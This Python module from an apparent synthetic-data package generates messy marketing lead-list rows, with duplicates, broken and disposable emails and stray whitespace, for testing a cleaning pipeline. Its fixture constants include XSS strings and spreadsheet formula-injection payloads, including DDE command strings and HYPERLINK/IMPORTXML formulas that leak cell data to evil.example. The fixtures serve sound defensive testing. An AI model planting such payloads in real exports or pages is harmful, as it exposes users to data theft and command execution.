"""Arrivals: people as a source exports them, with the mess of real exports.

``make_arrivals`` turns true identities into rows of a lead list. Most rows are
clean; some are repeats of a person already in the list (other casing, Gmail dot
or ``+tag`` variants, padding: the same ``email_key``), some have a broken
address, a disposable or role address, missing fields, stray whitespace, HTML
in a name, a formula-looking cell or a line break inside a field. The columns
``_person`` (index of the true person) and ``_mess`` (what was done to the
address) say what happened, for tests and benchmarks; file writers drop them.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import numpy as np
import pandas as pd

from funnelflow.synth import vocab
from funnelflow.synth.people import STREAM_ARRIVALS, generate_people, object_frame, rng_for

# The canonical export columns, in the order of the "plain" header style.
EXPORT_COLUMNS = (
    "email",
    "first_name",
    "last_name",
    "company",
    "job_title",
    "phone",
    "country",
    "consent",
    "do_not_email",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "utm_term",
    "utm_content",
    "lead_source",
    "registered_at",
    "attended",
    "joined_at",
)
# What ``_mess`` says about a row's address.
MESS_KINDS = ("", "repeat", "broken", "disposable", "role", "missing_email", "no_contact")

HTML_NAMES = ("<script>alert('x')</script>", "<b>{}</b>", "{}<img src=x onerror=alert(1)>", "<i>{}</i>")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "-2+3+cmd|' /C notepad'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
)
PLUS_TAGS = ("news", "webinar", "ads", "crm", "work", "2026")


@dataclass(frozen=True)
class MessRates:
    """Share of rows that get each kind of mess (besides repeat_rate and broken_rate)."""

    disposable: float = 0.005
    role: float = 0.005
    missing_email: float = 0.004  # a phone but no address
    no_contact: float = 0.001  # neither address nor phone: must be rejected
    missing_field: float = 0.04  # one of name, company, title, country left blank
    whitespace: float = 0.03
    html: float = 0.001
    formula: float = 0.001
    newline: float = 0.002  # a line break inside company or title (quoted in CSV)
    consent_given: float = 0.7
    do_not_email: float = 0.02


def _broken(rng: np.random.Generator, emails: np.ndarray) -> np.ndarray:
    """Addresses no validator accepts.

    Missing or doubled @, spaces, trailing dot, no TLD, double dot, comma.
    """
    kinds = rng.integers(0, 8, size=len(emails))
    out = np.empty(len(emails), dtype=object)
    for i, (email, kind) in enumerate(zip(emails, kinds, strict=True)):
        local, domain = email.split("@", 1)
        if kind == 0:
            out[i] = f"{local}{domain}"
        elif kind == 1:
            out[i] = f"{local}@@{domain}"
        elif kind == 2:
            out[i] = f"{local.replace('.', ' ', 1) if '.' in local else local[:1] + ' ' + local[1:]}@{domain}"
        elif kind == 3:
            out[i] = f"{local}@{domain}."
        elif kind == 4:
            out[i] = f"{local}@{domain.split('.')[0]}"
        elif kind == 5:
            out[i] = f"{local[:1]}..{local[1:]}@{domain}"
        elif kind == 6:
            out[i] = f"{local}@{domain.replace('.', ',', 1)}"
        else:
            out[i] = f"{local}@{local}@{domain}"
    return out


def _variant(rng: np.random.Generator, email: str) -> str:
    """The same person's address written another way (same ``email_key``)."""
    local, domain = email.split("@", 1)
    kind = int(rng.integers(0, 6))
    if domain == "gmail.com" and kind in (0, 1):
        bare = local.replace(".", "")
        if kind == 0 or len(bare) < 3:
            return f"{bare}@{'googlemail.com' if rng.random() < 0.3 else 'gmail.com'}"
        cut = int(rng.integers(1, len(bare)))
        return f"{bare[:cut]}.{bare[cut:]}@gmail.com"
    if kind in (0, 1):
        return f"{local}+{PLUS_TAGS[int(rng.integers(len(PLUS_TAGS)))]}@{domain}"
    if kind == 2:
        return email.upper()
    if kind == 3:
        return f"{local.title()}@{domain.capitalize()}"
    if kind == 4:
        return f"  {email} "
    return f"{local.capitalize()}@{domain.upper()}"


def _timestamps(rng: np.random.Generator, n: int, until: datetime, weeks: int) -> np.ndarray:
    span = int(weeks * 7 * 86400)
    offsets = rng.integers(1, span, size=n)
    base = np.datetime64(until.astimezone(UTC).replace(tzinfo=None), "s")
    return base - offsets.astype("timedelta64[s]")


def make_arrivals(
    rows: int,
    seed: int = 0,
    *,
    repeat_rate: float = 0.05,
    broken_rate: float = 0.02,
    rates: MessRates | None = None,
    until: datetime | None = None,
    weeks: int = 4,
    people: pd.DataFrame | None = None,
) -> pd.DataFrame:
    """``rows`` arrival rows with ``EXPORT_COLUMNS``, ``_person`` and ``_mess``; deterministic for the seed.

    ``repeat_rate`` of the rows repeat a person already in the list; ``broken_rate``
    of them have a malformed address. Timestamps fall in the ``weeks`` before ``until``.
    """
    if not 0 <= repeat_rate < 1 or not 0 <= broken_rate < 1:
        raise ValueError("repeat_rate and broken_rate must be between 0 and 1")
    rates = rates or MessRates()
    until = until or datetime(2026, 11, 23, 12, tzinfo=UTC)
    if until.tzinfo is None:
        raise ValueError("until must be timezone-aware")
    n_repeat = int(round(rows * repeat_rate))
    n_people = rows - n_repeat
    if people is None:
        people = generate_people(n_people, seed)
    elif len(people) < n_people:
        # Fewer people than rows need: the rest of the rows repeat them.
        n_people = len(people)
        n_repeat = rows - n_people
    else:
        people = people.iloc[:n_people].reset_index(drop=True)
    rng = rng_for(seed, STREAM_ARRIVALS)

    # Row order: each person once, plus repeats of people drawn from the list, shuffled.
    person = np.concatenate(
        [np.arange(n_people), rng.integers(0, max(n_people, 1), size=n_repeat) if n_people else []]
    )
    person = person.astype(np.int64)
    is_repeat = np.concatenate([np.zeros(n_people, bool), np.ones(n_repeat, bool)])
    order = rng.permutation(rows)
    person, is_repeat = person[order], is_repeat[order]
    # The first time a person appears in the file is the original, whichever copy it is.
    first_pos = (
        pd.Series(np.arange(rows)).groupby(person).transform("min").to_numpy()
        if rows
        else np.array([], np.int64)
    )
    is_repeat = np.arange(rows) != first_pos

    src = {
        c: people[c].to_numpy(dtype=object)[person]
        for c in (
            "email",
            "first_name",
            "last_name",
            "company",
            "job_title",
            "phone",
            "country",
            "company_domain",
        )
    }
    email = src["email"].copy()
    mess = np.full(rows, "", dtype=object)
    mess[is_repeat] = "repeat"
    for i in np.flatnonzero(is_repeat):
        email[i] = _variant(rng, email[i])

    # Address problems hit original rows only, so a repeat always has a clean twin.
    originals = np.flatnonzero(~is_repeat)
    draw = rng.permutation(originals)
    counts = {
        "broken": int(round(rows * broken_rate)),
        "disposable": int(round(rows * rates.disposable)),
        "role": int(round(rows * rates.role)),
        "missing_email": int(round(rows * rates.missing_email)),
        "no_contact": int(round(rows * rates.no_contact)),
    }
    pos = 0
    chosen: dict[str, np.ndarray] = {}
    for kind, count in counts.items():
        chosen[kind] = draw[pos : pos + count]
        pos += count
        mess[chosen[kind]] = kind
    email[chosen["broken"]] = _broken(rng, email[chosen["broken"]])
    for i in chosen["disposable"]:
        local = email[i].split("@", 1)[0]
        email[i] = f"{local}@{vocab.DISPOSABLE_DOMAINS[int(rng.integers(len(vocab.DISPOSABLE_DOMAINS)))]}"
    for i in chosen["role"]:
        email[i] = (
            f"{vocab.ROLE_LOCAL_PARTS[int(rng.integers(len(vocab.ROLE_LOCAL_PARTS)))]}@{src['company_domain'][i]}"
        )
    email[chosen["missing_email"]] = None
    email[chosen["no_contact"]] = None
    phone = src["phone"].copy()
    # Someone with no address was reachable by phone, or the row is useless (no_contact).
    need_phone = chosen["missing_email"][pd.isna(phone[chosen["missing_email"]])]
    if len(need_phone):
        phone[need_phone] = [
            f"+1 646 {200 + (int(i) // 10000) % 800:03d} {int(i) % 10000:04d}" for i in need_phone
        ]
    phone[chosen["no_contact"]] = None

    first, last = src["first_name"].copy(), src["last_name"].copy()
    company, title, country = src["company"].copy(), src["job_title"].copy(), src["country"].copy()
    # Repeats come back with small differences: shouting names, a new title.
    shout = is_repeat & (rng.random(rows) < 0.3)
    first[shout] = np.array([str(v).upper() for v in first[shout]], dtype=object)
    last[shout] = np.array([str(v).upper() for v in last[shout]], dtype=object)

    fields = {
        "first_name": first,
        "last_name": last,
        "company": company,
        "job_title": title,
        "country": country,
    }
    field_names = list(fields)
    missing = np.flatnonzero(rng.random(rows) < rates.missing_field)
    which = rng.integers(0, len(field_names), size=len(missing))
    for i, f in zip(missing, which, strict=True):
        fields[field_names[f]][i] = None
    ws = np.flatnonzero(rng.random(rows) < rates.whitespace)
    for i in ws:
        arr = fields[field_names[int(rng.integers(0, 4))]]
        if arr[i]:
            arr[i] = (
                (" ", "  ", "\t", "")[int(rng.integers(4))]
                + str(arr[i]).replace(" ", "  ", 1)
                + (" ", "  ", "\t", " ")[int(rng.integers(4))]
            )
    for i in np.flatnonzero(rng.random(rows) < rates.html):
        first[i] = HTML_NAMES[int(rng.integers(len(HTML_NAMES)))].replace("{}", str(first[i] or "Max"))
    for i in np.flatnonzero(rng.random(rows) < rates.formula):
        target = (first, last, company)[int(rng.integers(3))]
        target[i] = FORMULAS[int(rng.integers(len(FORMULAS)))]
    for i in np.flatnonzero(rng.random(rows) < rates.newline):
        if company[i]:
            company[i] = (
                f"{company[i]}\nAbteilung Vertrieb"
                if rng.random() < 0.5
                else f"{company[i]}\r\nc/o Marketing"
            )
        elif title[i]:
            title[i] = f"{title[i]}\n(interim)"

    utm_sources = list(vocab.UTM_SOURCES)
    utm_p = np.array([vocab.UTM_SOURCES[s][1] for s in utm_sources])
    us_i = rng.choice(len(utm_sources), size=rows, p=utm_p / utm_p.sum())
    utm_source = np.array(utm_sources, dtype=object)[us_i]
    med_pick = rng.integers(0, 100, size=rows)
    utm_medium = np.array(
        [
            vocab.UTM_SOURCES[utm_sources[s]][0][m % len(vocab.UTM_SOURCES[utm_sources[s]][0])]
            for s, m in zip(us_i, med_pick, strict=True)
        ],
        dtype=object,
    )
    campaigns = np.array(vocab.UTM_CAMPAIGNS, dtype=object)
    utm_campaign = campaigns[rng.integers(0, len(campaigns), size=rows)]
    utm_term = np.array(vocab.UTM_TERMS, dtype=object)[rng.integers(0, len(vocab.UTM_TERMS), size=rows)]
    utm_content = np.array(vocab.UTM_CONTENTS, dtype=object)[
        rng.integers(0, len(vocab.UTM_CONTENTS), size=rows)
    ]
    no_utm = rng.random(rows) < 0.35
    for arr in (utm_source, utm_medium, utm_campaign, utm_term, utm_content):
        arr[no_utm] = None
    utm_term[utm_term == ""] = None
    utm_content[utm_content == ""] = None

    consent = rng.random(rows) < rates.consent_given
    dne = rng.random(rows) < rates.do_not_email
    lead_source = np.array(vocab.LEAD_SOURCES, dtype=object)[
        rng.integers(0, len(vocab.LEAD_SOURCES), size=rows)
    ]
    registered = _timestamps(rng, rows, until, weeks)
    attended = rng.random(rows) < 0.55
    joined = registered + rng.integers(3600, 14 * 86400, size=rows).astype("timedelta64[s]")
    joined = np.minimum(
        joined, np.datetime64(until.astimezone(UTC).replace(tzinfo=None), "s") - np.timedelta64(60, "s")
    )

    frame = object_frame(
        {
            "email": email,
            "first_name": first,
            "last_name": last,
            "company": company,
            "job_title": title,
            "phone": phone,
            "country": country,
            "consent": consent,
            "do_not_email": dne,
            "utm_source": utm_source,
            "utm_medium": utm_medium,
            "utm_campaign": utm_campaign,
            "utm_term": utm_term,
            "utm_content": utm_content,
            "lead_source": lead_source,
            "registered_at": pd.to_datetime(registered).tz_localize("UTC"),
            "attended": attended,
            "joined_at": pd.to_datetime(np.where(attended, joined, np.datetime64("NaT"))).tz_localize("UTC"),
            "_person": person,
            "_mess": mess,
        }
    )
    return frame


def until_default() -> datetime:
    """The fixed 'now' of the synthetic world when none is given (never the wall clock)."""
    return datetime(2026, 11, 23, 12, tzinfo=UTC)


def weeks_before(until: datetime, weeks: int) -> datetime:
    return until - timedelta(weeks=weeks)
